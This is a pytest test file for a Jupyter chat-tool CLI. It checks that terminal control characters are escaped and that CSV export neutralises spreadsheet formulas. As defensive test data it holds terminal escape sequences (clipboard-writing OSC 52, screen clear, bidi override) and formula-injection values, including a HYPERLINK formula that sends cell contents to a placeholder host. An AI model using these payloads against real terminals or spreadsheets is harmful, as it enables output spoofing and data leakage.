"""``elk-jupyter`` output is safe in a terminal (every command, one function), CSV export guards
formula cells, ``rerun`` says when a turn failed with its exit status, nbformat 3 notebooks are
read, odd ``/models`` bodies and Responses deltas keyed only by ``output_index`` are handled, and
restore stays linear when every context names the first turn."""

from __future__ import annotations

import csv
import json
import re
import time

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output

from elk_jupyter import Client, experiment
from elk_jupyter.cli.main import main
from elk_jupyter.conversation import lineage, session
from elk_jupyter.conversation.session import Turn
from elk_jupyter.errors import APIError, ElkError, HistoryError
from elk_jupyter.gateway.events import Done, Started, TextDelta, UsageReport
from elk_jupyter.gateway.reply import Reply
from elk_jupyter.records import turn as record
from tests.scripted_server import Script

HOSTILE = "\x1b]52;c;aGVsbG8=\x07 clip \x1b[2J clear \x1b]0;title\x07 \x9b31m red \x07 bell \r over \u202eevil \x7f"
# What a terminal acts on: C0 but newline and tab, DEL, C1, bidirectional overrides.
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
KEY = "sk-elk-terminal-test-51a7"


def turn(n: int, parent: str | None, *, text: str = "fine", conversation: str = "default", model: str = "m") -> Turn:
    body = {"model": model, "messages": [{"role": "user", "content": f"question {n}"}], "stream": True}
    return Turn(
        id=session.new_turn_id(parent, conversation, body, float(n)),
        conversation=conversation,
        endpoint="chat",
        prompt=f"question {n} {HOSTILE}",
        request=body,
        reply=reply_dict(body, text, model),
        status="completed",
        parent=parent,
        context=(parent,) if parent else (),
        host="127.0.0.1",
    )


def reply_dict(body: dict, text: str, model: str) -> dict:
    reply = Reply("chat", body)
    for event in (Started("r1", model), TextDelta(text), UsageReport({"total_tokens": 3}), Done()):
        reply.add(event)
    return reply.to_dict()


def saved(path, turns, extra_outputs=()) -> str:
    outputs = [
        new_output("display_data", data={"text/plain": t.text}, metadata={record.RECORD_KEY: record.record_of(t)})
        for t in turns
    ]
    nb = new_notebook(cells=[new_code_cell("%%chat", outputs=[o]) for o in [*outputs, *extra_outputs]])
    nbformat.write(nb, path)
    return str(path)


@pytest.fixture
def hostile_notebook(tmp_path, gateway, monkeypatch):
    first = turn(1, None, text=HOSTILE, conversation=f"evil{HOSTILE}", model=f"m{HOSTILE}")
    second = turn(2, first.id, text="ok " + HOSTILE, conversation=first.conversation, model=f"m{HOSTILE}")
    monkeypatch.setenv("ELK_CACHE_DIR", str(tmp_path / "cache"))
    client = Client(KEY, base_url=gateway.base_url, model="m1")
    outputs = []
    for name in (f"one{HOSTILE}", f"two{HOSTILE}"):
        gateway.plan(text=HOSTILE)
        result = experiment("Say $w", [{"w": HOSTILE}], name=name, client=client, concurrency=1, progress=False)
        data, metadata = result._repr_mimebundle_()
        outputs.append(new_output("display_data", data=data, metadata=metadata))
    return saved(tmp_path / "hostile.ipynb", [first, second], outputs), first.conversation


def test_every_command_escapes_control_characters(hostile_notebook, capsys):
    path, conversation = hostile_notebook
    commands = [
        ["inspect", path],
        ["export", path, "-c", conversation, "-f", "json"],
        ["export", path, "-c", conversation, "-f", "jsonl"],
        ["export", path, "-c", conversation, "-f", "markdown"],
        ["experiments", "list", path],
        ["experiments", "show", path, f"one{HOSTILE}"],
        ["experiments", "diff", path, f"one{HOSTILE}", f"two{HOSTILE}"],
        ["export", path, "-c", f"missing{HOSTILE}"],  # an error line quoting a name
    ]
    for command in commands:
        status = main(command)
        out, err = capsys.readouterr()
        assert status == (2 if "missing" in command[-1] else 0), (command, err)
        assert not CONTROLS.search(out + err), (command, CONTROLS.findall(out + err))
        shown = ("\\x1b]52;c;aGVsbG8=\\x07", "\\u001b]52;c;aGVsbG8=\\u0007")  # as text, or inside JSON
        assert any(s in out + err for s in shown) or command[0] == "experiments", command
        if command[-1] == "json":
            exported = json.loads(out)  # still JSON: C1 and bidi are escaped as \\u escapes
            assert "\x1b]52" in exported[-1]["content"] and "\u202e" in exported[-1]["content"]


def test_csv_export_guards_formula_cells(gateway, tmp_path, monkeypatch):
    monkeypatch.setenv("ELK_CACHE_DIR", str(tmp_path / "cache"))
    outputs = ['=HYPERLINK("https://x/?d="&C2,"")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "=WEBSERVICE(1)", "plain"]
    for text in outputs:
        gateway.plan(text=text)
    client = Client(KEY, base_url=gateway.base_url, model="m1")
    cases = [{"n": str(n)} for n in range(len(outputs))]
    result = experiment("Say $n", cases, client=client, concurrency=1, progress=False, replay="off")
    result.to_csv(tmp_path / "runs.csv")
    with open(tmp_path / "runs.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["output"] for row in rows] == ["'" + text for text in outputs[:-1]] + ["plain"]


def test_rerun_exits_non_zero_when_a_turn_failed(tmp_path, gateway, monkeypatch, capsys):
    first = turn(1, None)
    path = saved(tmp_path / "two.ipynb", [first, turn(2, first.id)])
    monkeypatch.setenv("ELK_API_KEY", KEY)
    monkeypatch.setenv("ELK_BASE_URL", gateway.base_url)
    monkeypatch.setenv("ELK_CACHE_DIR", str(tmp_path / "cache"))
    gateway.plan(text="again")
    gateway.plan(status=400)
    assert main(["rerun", path, "-o", str(tmp_path / "out.ipynb")]) == 1
    out, err = capsys.readouterr()
    assert "1 of 2 turns failed (first: turn" in err and "HTTP 400" in err and "wrote" in out
    assert (tmp_path / "out.ipynb").exists()
    assert main(["rerun", path, "-o", str(tmp_path / "out2.ipynb")]) == 0
    assert "all 2 turns re-ran" in capsys.readouterr().out


def test_an_nbformat_3_notebook_is_read_and_others_named(tmp_path, capsys):
    first = turn(1, None)
    v4 = tmp_path / "v4.ipynb"
    saved(v4, [first, turn(2, first.id)])
    v3 = tmp_path / "v3.ipynb"
    nbformat.write(nbformat.convert(nbformat.read(v4, as_version=4), 3), v3)
    assert json.loads(v3.read_text())["nbformat"] == 3 and "worksheets" in v3.read_text()
    assert main(["inspect", str(v3)]) == 0
    assert "2 turns in 1 conversations" in capsys.readouterr().out
    broken = tmp_path / "v3-broken.ipynb"
    broken.write_text(json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": 5}], "metadata": {}}))
    odd = tmp_path / "v9.ipynb"
    odd.write_text(json.dumps({"nbformat": 9, "sheets": []}))
    assert main(["inspect", str(broken)]) == 2
    err = capsys.readouterr().err
    assert "an nbformat 3 notebook" in err and f"jupyter nbconvert --to notebook --nbformat 4 {broken}" in err
    assert main(["inspect", str(odd)]) == 2
    assert "not a Jupyter notebook (no list of cells; nbformat 9)" in capsys.readouterr().err


def test_models_of_any_shape(scripted, tmp_path, monkeypatch, capsys):
    from tests.environment import elk_env, fresh_shell, use_env

    scripted.queue(
        Script.json({"object": "list", "data": ["a", "b", {"id": "c"}]}),
        Script.json({"data": 3}),
        Script.json(["not", "an", "object"]),
        Script.json({"data": [f"evil{HOSTILE}", 7]}),
        Script.json({"data": "text"}),
    )
    client = Client(KEY, base_url=scripted.base_url, max_retries=0)
    assert [m["id"] for m in client.models()] == ["a", "b", "c"]
    for message in ("GET /models returned 'data' is int, not a list", "GET /models returned not a JSON object"):
        with pytest.raises(APIError, match=message):
            client.models()
    use_env(monkeypatch, elk_env(scripted.base_url, KEY, tmp_path / "cache"))
    ip, _ = fresh_shell()
    assert ip.run_cell("%elk models").success
    out = capsys.readouterr().out
    assert out.splitlines()[-1] == "7" and "evil\\x1b]52;c;aGVsbG8=\\x07" in out and not CONTROLS.search(out)
    result = ip.run_cell("%elk models")
    assert str(result.error_in_exec) == "HTTP 200: GET /models returned 'data' is str, not a list"


def test_responses_argument_deltas_keyed_by_output_index_join_their_call(scripted):
    def frame(kind, **fields):
        return f"data: {json.dumps({'type': kind, **fields})}\n\n"

    call = {"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": "add", "arguments": ""}
    scripted.queue(
        Script.sse(
            frame("response.created", response={"id": "r1", "model": "m"}),
            frame("response.output_item.added", output_index=0, item=call),
            frame("response.function_call_arguments.delta", output_index=0, delta='{"a": '),
            frame("response.function_call_arguments.delta", output_index=0, delta="2}"),
            frame("response.output_item.done", output_index=0, item={**call, "arguments": '{"a": 2}'}),
            frame("response.completed", response={"id": "r1", "model": "m", "status": "completed", "output": []}),
        )
    )
    reply = Client(KEY, base_url=scripted.base_url).respond("add")
    assert [(c["id"], c["function"]["name"], c["function"]["arguments"]) for c in reply.tool_calls] == [
        ("call_1", "add", '{"a": 2}')
    ]


def test_contexts_naming_the_first_turn_restore_and_strays_are_refused():
    turns, parent, first = [], None, None
    for n in range(2_000):
        body = {"n": n}
        turn_id = session.new_turn_id(parent, "default", body, time.time())
        context = tuple(c for c in (first, parent) if c and (c != first or parent != first))
        turns.append(Turn(turn_id, "default", "chat", "q", body, {"text": "a"}, "completed", parent, context))
        first, parent = first or turn_id, turn_id
    assert [t.id for t in lineage.ordered(list(reversed(turns)), {})] == [t.id for t in turns]
    sibling = Turn("stray", "default", "chat", "q", {}, {"text": "a"}, "completed", turns[5].id)
    bad = Turn("bad", "default", "chat", "q", {}, {"text": "a"}, "completed", turns[9].id, (turns[3].id, "stray"))
    with pytest.raises(HistoryError, match="its context names stray"):
        lineage.ordered([*turns, sibling, bad], {})


def test_a_record_nested_600_deep_is_one_line_everywhere(tmp_path, gateway, monkeypatch, capsys):
    from tests.environment import elk_env, fresh_shell, use_env

    path = tmp_path / "deep.ipynb"
    saved(path, [turn(1, None)])
    nb = json.loads(path.read_text())
    deep: dict = {}
    for _ in range(600):
        deep = {"a": deep}
    nb["cells"][0]["outputs"][0]["metadata"][record.RECORD_KEY]["turn"]["reply"]["extra"] = deep
    path.write_text(json.dumps(nb))
    for command in (["inspect", str(path)], ["export", str(path)]):
        assert main(command) == 2
        err = capsys.readouterr().err
        assert err.startswith("elk-jupyter: error: ") and err.count("\n") == 1 and "deep" in err, command
    use_env(monkeypatch, elk_env(gateway.base_url, KEY, tmp_path / "cache", JPY_SESSION_NAME=str(path)))
    ip, _ = fresh_shell(replay="auto")
    result = ip.run_cell(f"%elk restore {path}")
    assert isinstance(result.error_in_exec, ElkError) and "deep" in str(result.error_in_exec)
    assert "\n" not in str(result.error_in_exec)
    assert ip.run_cell("%%chat\nStill works").success  # the replay index skips it, the turn runs
    assert len(gateway.requests) == 1


@pytest.mark.parametrize(
    "where, value, refusal",
    [
        (("runs", 0, "model"), 5, "runs[0].model should be str, got int"),
        (("runs", 0, "scores"), {"s": {"value": 10**400, "passed": True}}, "a number too large for a float"),
        (("experiment", "models"), [1], "experiment.models[0] should be str, got int"),
        (("runs", 0, "reply", "total"), "slow", None),  # still a valid record: shown
    ],
)
def test_hand_edited_experiment_records_are_refused_in_one_line_or_shown(
    gateway, tmp_path, monkeypatch, capsys, where, value, refusal
):
    from elk_jupyter.records.experiment import EXPERIMENT_KEY

    monkeypatch.setenv("ELK_CACHE_DIR", str(tmp_path / "cache"))
    gateway.plan(text="hi")
    client = Client(KEY, base_url=gateway.base_url, model="m1")
    result = experiment("Say $w", [{"w": "x"}], name="e1", client=client, concurrency=1, progress=False)
    data, metadata = result._repr_mimebundle_()
    nb = json.loads(
        json.dumps(new_notebook(cells=[new_code_cell("x", outputs=[new_output("display_data", data=data)])]))
    )
    edited = json.loads(json.dumps(metadata[EXPERIMENT_KEY]))
    holder = edited
    for step in where[:-1]:
        holder = holder[step]
    holder[where[-1]] = value
    nb["cells"][0]["outputs"][0]["metadata"] = {EXPERIMENT_KEY: edited}
    path = tmp_path / "edited.ipynb"
    path.write_text(json.dumps(nb))
    for command in (["list", str(path)], ["show", str(path), "e1"], ["diff", str(path), "e1", "e1"]):
        status = main(["experiments", *command])
        out, err = capsys.readouterr()
        if refusal is None:
            assert status == 0 and err == "" and out, command
        else:
            assert status == 2 and out == "" and refusal in err and err.count("\n") == 1, (command, err)
